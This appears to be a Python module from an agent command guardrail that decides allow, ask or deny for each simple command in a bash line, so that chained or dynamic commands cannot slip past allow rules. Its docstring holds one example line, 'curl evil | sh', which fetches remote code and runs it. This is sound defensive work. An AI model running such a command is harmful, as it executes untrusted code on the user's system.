"""How a bash call is decided: per simple command, on every spelling of it.

The line is split into the simple commands it runs (``guardrail._simple``).
Each command gets a decision of its own, the strictest over its spellings:
every spelling is checked as a whole argument string (deny, then allow, then
ask, then the default), and an alias (the program's bare, case-folded name)
adds only the deny and ask rules it matches. The line's decision is the
strictest over its commands (deny, then ask, then allow), and a deny or ask
rule that matches the whole line as written still applies: the per-command
reading only ever adds strictness, except that an allow rule no longer covers
a line because it matches the line's text (``make *`` and
``make x; curl evil | sh``). A command whose program is named by an unknown
expansion (``$CMD push``) could be any program, so it is at least Ask when
the policy has any deny or ask rule with a pattern for bash. A line too
complex to be split is at least Ask.

docs/policy.md, "How a bash command is decided", is the prose reference.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from ..guardrail._simple import split_line
from ._decision import Decision, strictest

__all__ = ["BashVerdict", "CommandVerdict", "decide_bash"]

# spelling -> (the decision its rules give, None when no rule matches; the index of the deciding
# rule; the indices of every rule that matches it)
Lookup = Callable[[str], "tuple[Decision | None, int | None, list[int]]"]


@dataclass(frozen=True)
class CommandVerdict:
    """The decision on one simple command: which rule decided it, on which spelling."""

    command: str
    decision: Decision
    rule: int | None  # the index of the deciding rule; None: the default (or a floor)
    spelling: str  # the spelling the deciding rule matched (the command, when none did)
    why: str  # a short phrase: "rule", "default", "dynamic program", ...


@dataclass(frozen=True)
class BashVerdict:
    """The decision on a whole line, its commands' verdicts, and every rule that matched."""

    decision: Decision
    commands: tuple[CommandVerdict, ...]
    matched: frozenset[int]
    explicit: bool  # every command is allowed by an allow rule (not by the default)

    @property
    def deciding(self) -> CommandVerdict | None:
        """The first command whose decision is the line's, or None when the line decided."""
        for verdict in self.commands:
            if verdict.decision is self.decision:
                return verdict
        return None


def decide_bash(line: str, lookup: Lookup, default: Decision, patterned: bool) -> BashVerdict:
    """The verdict on ``line``; ``patterned``: the policy has a deny or ask rule with a pattern
    for bash (a command with an unknown program is then at least Ask)."""
    split = split_line(line)
    whole, _rule, whole_rules = lookup(line)
    matched = set(whole_rules)
    verdicts = []
    for cmd in split.commands:
        best: CommandVerdict | None = None
        for spelling in cmd.spellings:
            decision, rule, rules = lookup(spelling)
            matched.update(rules)
            best = _stricter(best, _verdict(cmd.shown, spelling, decision, rule, default))
        for alias in cmd.aliases:
            decision, rule, rules = lookup(alias)
            if decision in (Decision.DENY, Decision.ASK):
                matched.update(rules)
                best = _stricter(best, _verdict(cmd.shown, alias, decision, rule, default))
        assert best is not None  # every command has at least one spelling
        if cmd.dynamic and patterned and best.decision is Decision.ALLOW:
            best = CommandVerdict(cmd.shown, Decision.ASK, None, cmd.shown, "dynamic program")
        verdicts.append(best)
    if not verdicts:  # nothing runs a program (empty, a comment, assignments): the line alone
        decision = whole or default
    else:
        decision = strictest(*(v.decision for v in verdicts))
        if whole in (Decision.DENY, Decision.ASK):
            decision = strictest(decision, whole)
    if not split.complete:
        decision = strictest(decision, Decision.ASK)
    explicit = bool(verdicts) and all(
        v.decision is Decision.ALLOW and v.rule is not None for v in verdicts
    )
    return BashVerdict(decision, tuple(verdicts), frozenset(matched), explicit)


def _verdict(
    command: str, spelling: str, decision: Decision | None, rule: int | None, default: Decision
) -> CommandVerdict:
    if decision is None:
        return CommandVerdict(command, default, None, spelling, "default")
    return CommandVerdict(command, decision, rule, spelling, "rule")


def _stricter(a: CommandVerdict | None, b: CommandVerdict) -> CommandVerdict:
    if a is None or strictest(a.decision, b.decision) is not a.decision:
        return b
    return a
